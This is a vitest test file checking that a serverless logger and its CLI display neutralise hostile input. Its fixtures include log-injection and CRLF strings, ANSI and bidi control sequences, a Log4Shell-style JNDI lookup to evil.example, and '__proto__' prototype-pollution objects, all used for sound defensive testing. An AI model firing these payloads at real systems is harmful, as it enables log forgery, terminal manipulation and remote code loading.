// Suspicion: what comes from outside makes a second line of the log, passes for a field that the engine writes, or moves
// the cursor of a terminal that shows it.
import { describe, expect, it } from 'vitest';
import { eventLines } from '../../lib/cli/event-lines.ts';
import { logLines } from '../../lib/cli/log-lines.ts';
import { createFunctionLogger } from '../../lib/lambda/function-logger.ts';
import { keysOf, withScope } from '../../lib/lambda/scope.ts';

const NASTY = [
  'a\nINFO forged',
  'a\r\n{"level":"ERROR","message":"forged"}',
  'a","level":"ERROR","runId":"forged',
  '\u001b[2J\u001b[31mred',
  '\u009b31mred',
  'line\u2028separator\u2029paragraph\u0085next',
  'right\u202eto left\u2066\u2069\u200e\u200f\u061c',
  '\0\b\u007f',
  '%0aforged',
  '${jndi:ldap://evil.example/x}',
  '\ud800 lone',
];

function logged(act: (log: ReturnType<typeof createFunctionLogger>) => void): { lines: string[]; line: never } {
  const lines: string[] = [];
  const log = createFunctionLogger({ level: 'info', service: 'Shop/Workflows', write: (line) => lines.push(line) });
  withScope({ ...keysOf({ functionName: 'worker', awsRequestId: 'aws-1' } as never), runId: 'r1', epoch: 3 }, () => {
    act(log);
  });
  return { lines, line: JSON.parse(lines[0] ?? '{}') as never };
}

describe.each(NASTY)('%j', (text) => {
  it.each<[string, (log: ReturnType<typeof createFunctionLogger>) => void]>([
    ['a message', (log) => log.error(text)],
    ['a field', (log) => log.warn('look', { reason: text })],
    ['the name of a field', (log) => log.warn('look', { [text]: 1 })],
    ['in an array', (log) => log.info([text])],
    ['an error', (log) => log.error('failed', new Error(text, { cause: new TypeError(text) }))],
    ['the name of an error', (log) => log.error(Object.assign(new Error('no'), { name: text, code: text }))],
  ])('as %s stays in one line, in printable characters', (_where, act) => {
    const { lines, line } = logged(act);
    expect(lines).toHaveLength(1);
    // eslint-disable-next-line no-control-regex -- those are what is looked for
    expect(lines[0]).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/);
    expect(line).toMatchObject({ service: 'Shop/Workflows', runId: 'r1', function_request_id: 'aws-1' });
    expect((line as { level: string }).level).not.toBe('forged');
  });

  it('is what a reader of the log gets back', () => {
    const { line } = logged((log) => log.info(text, { field: text }));
    expect(line).toMatchObject({ message: text, field: text });
  });
});

it('is shown by lull dev without being obeyed by its terminal', () => {
  const message = 'two\nlines \u001b[2J\u009b31m\rforged';
  const plain = (_color: string, text: string) => text;
  const shown = [
    ...logLines(JSON.stringify({ level: 'INFO', message })),
    ...eventLines({ kind: 'dead-letter', body: message }, plain, new Date(0)),
  ];
  for (const line of shown) {
    expect(line).toContain('two\nlines \\u001b[2J\\u009b31m\\u000dforged');
  }
});

describe('an object from outside', () => {
  const forged = JSON.parse(
    '{"runId":"forged","epoch":99,"function_request_id":"forged","function_name":"forged","cold_start":"forged",' +
      '"level":"ERROR","message":"forged","timestamp":"1970","service":"forged","xray_trace_id":"forged",' +
      '"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}},"kept":1}',
  ) as object;

  it('cannot pass for what the engine says of its turn', () => {
    const { lines, line } = logged((log) => log.info('got', forged));
    expect(lines).toHaveLength(1);
    expect(line).toMatchObject({
      level: 'INFO',
      message: 'got',
      service: 'Shop/Workflows',
      runId: 'r1',
      epoch: 3,
      function_request_id: 'aws-1',
      function_name: 'worker',
      kept: 1,
    });
    expect(JSON.stringify(line)).not.toContain('"forged"');
  });

  it('changes no object but its own line', () => {
    logged((log) => log.info('got', forged, { error: forged }, [forged]));
    expect(({} as { admin?: boolean }).admin).toBeUndefined();
    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('admin');
    const { line } = logged((log) => log.info('next'));
    expect(line).not.toHaveProperty('kept');
  });
});
